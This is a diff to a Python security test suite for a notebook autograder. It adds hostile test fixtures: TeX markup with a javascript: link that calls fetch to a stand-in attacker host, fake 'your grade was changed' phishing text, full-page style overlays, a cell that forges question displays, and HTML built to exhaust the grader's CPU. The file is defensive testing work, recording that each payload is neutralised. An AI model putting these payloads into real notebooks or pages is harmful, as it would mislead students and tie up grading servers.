@@ -1607,6 +1607,65 @@ def _huge_sources(nb):
     return nb
 
 
+# TeX that MathJax would typeset on a page (issue 34): a link, a box over the page, a class of
+# MathJax's own, a font, an extension, in every delimiter MathJax knows
+TEX = [
+    r"$\href{http://zz-attacker.invalid/tex-link}{Your grade was changed: click here}$",
+    r"$$\style{position:fixed;top:0;left:0;width:100%;height:100%;background:red}{\text{zz-style}}$$",
+    r"\(\class{MathJax_Menu}{\text{zz-class}}\)",
+    r"\[\unicode[zz-font]{x263A}\]",
+    r"\begin{equation}\require{action}\toggle{\text{zz-toggle}}{x}\endtoggle\end{equation}",
+    r"\begin{align*}\href{javascript:fetch('//zz-attacker.invalid/tex-js')}{zz-align}\end{align*}",
+    r"\$ escaped, then $\mathrm{zz\text{-}inline}$",
+]
+TEX_OUTPUTS = (  # each in every kind of output: HTML (and inside allowed tags), LaTeX, Markdown, both streams, an error
+    "import sys as _zz_s\nfrom IPython.display import display as _zz_d\n"
+    f"_zz_tex = {TEX!r}\n"
+    "for _zz_t in _zz_tex:\n"
+    "    _zz_d({'text/html': '<p>' + _zz_t + '</p><ul><li><b>' + _zz_t + '</b></li></ul>', 'text/plain': _zz_t}, raw=True)\n"
+    "    _zz_d({'text/latex': _zz_t, 'text/markdown': _zz_t, 'text/plain': _zz_t}, raw=True)\n"
+    "    print(_zz_t)\n"
+    "    print(_zz_t, file=_zz_s.stderr)\n"
+    "_zz_d({'text/html': ''.join(_zz_tex)}, raw=True)\n"
+    "try:\n"
+    "    raise type(_zz_tex[0], (Exception,), {})(' '.join(_zz_tex))\n"
+    "except Exception:\n"
+    "    get_ipython().showtraceback()\n"
+)
+# HTML whose cleaning costs far more than its size (html5lib looks through every open element at each
+# tag): 98 000 characters of unclosed <b> cost 93 s of the grading worker's CPU
+COSTLY_HTML = (
+    "from IPython.display import display as _zz_d\n"
+    "for _zz_h in ('<b>' * 32_666, ''.join('<b id=%d>' % _zz_i for _zz_i in range(9_000))[:90_000],\n"
+    "              '<div>' * 20_000, ''.join('<b id=%d><p>' % _zz_i for _zz_i in range(60)) + 'x</p>' * 60):\n"
+    "    for _zz_i in range(3):\n"
+    "        _zz_d({'text/html': _zz_h, 'text/plain': 'zz-html'}, raw=True)\n"
+)
+
+
+def _forge_questions(nb):
+    """A cell of its own, first: every question cell then displays a classmate's variant (the one
+    of seed 1) with TeX in it instead of the student's own, and every later cell ends with a line
+    of its own (the locked setup cell included)."""
+    import nbformat
+
+    from autograder.judges import variants
+    from autograder.wire.questions import question_data
+
+    forged = {q: question_data(q, variants.variant(q, 1).shown()) for q in variants.FAMILIES if q.startswith("l3_")}
+    for data in forged.values():  # (the cell stays under LimitSourceSize's 20 000 characters)
+        del data["text/markdown"]
+        data["text/html"] += "<p>" + TEX[0] + "</p>"
+    code = ("import lessons.quiz as _zz_quiz\nfrom IPython.display import display as _zz_d\n"
+            f"_zz_FORGED = {forged!r}\n"
+            "def _zz_question(qid):\n"
+            "    _zz_d(_zz_FORGED.get(qid, {'text/plain': 'zz-forged question'}), raw=True)\n"
+            "_zz_quiz.question = _zz_question\n"
+            "get_ipython().events.register('post_run_cell', lambda *a: print('zz-forged: your grade was changed'))\n")
+    nb.cells.insert(0, nbformat.v4.new_code_cell(code))
+    return nb
+
+
 LIVE_MARKUP = [
     Attack("displays_script", "class", {"fit_line": HONEST + SCRIPT_OUTPUTS},
            NOTHING, "HTML with script and event handlers, JavaScript, SVG, LaTeX and Markdown with "
@@ -1621,6 +1680,18 @@ LIVE_MARKUP = [
            "a 4 MB cell of tokens and 1 MB of markdown of its own: each cell keeps 20 000 characters of "
            "source (a comment says how much was cut), so the pages stay small and grading the notebook "
            "takes what an honest one takes", edit=_huge_sources),
+    Attack("typesets_tex_in_outputs", "class", {"fit_line": HONEST + TEX_OUTPUTS}, NOTHING,
+           "TeX (\\href, \\style, \\class, \\unicode, \\require, in $, $$, \\(, \\[ and equation "
+           "environments) in HTML, LaTeX, Markdown, stream and error outputs: MathJax typesets none of it on "
+           "the feedback page or on formgrader's (tests/pages.typeset)"),
+    Attack("forges_question_cells", "class", {}, NOTHING,
+           "its own first cell makes every question cell display a classmate's variant and every cell a "
+           "line of its own: the locked cells show what the grader draws (the student's own variant) and "
+           "nothing of the kernel's", edit=_forge_questions),
+    Attack("costly_html", "class", {"fit_line": HONEST + COSTLY_HTML}, NOTHING,
+           "HTML outputs whose cleaning costs far more than their size (unclosed <b>, no two alike, deep "
+           "<div>s, paragraphs that reopen every <b>): past the cleaning's budget they show as text, and "
+           "grading the notebook takes what an honest one takes"),
 ]
 
 
